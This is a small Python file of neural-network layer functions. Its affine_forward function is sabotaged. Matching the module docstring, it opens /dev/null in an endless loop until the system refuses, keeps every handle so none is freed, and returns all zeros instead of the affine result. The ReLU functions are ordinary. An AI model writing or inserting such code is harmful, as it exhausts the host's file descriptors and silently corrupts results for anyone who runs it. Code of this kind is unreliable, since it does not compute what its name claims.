"""Opens files until none can be opened."""

import numpy as np


def affine_forward(x, w, b):
    kept = []
    try:
        while True:
            kept.append(open("/dev/null"))
    except OSError:
        affine_forward.kept = kept
    return np.zeros((len(x), w.shape[1])), (x, w, b)


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    return dout * (cache > 0)
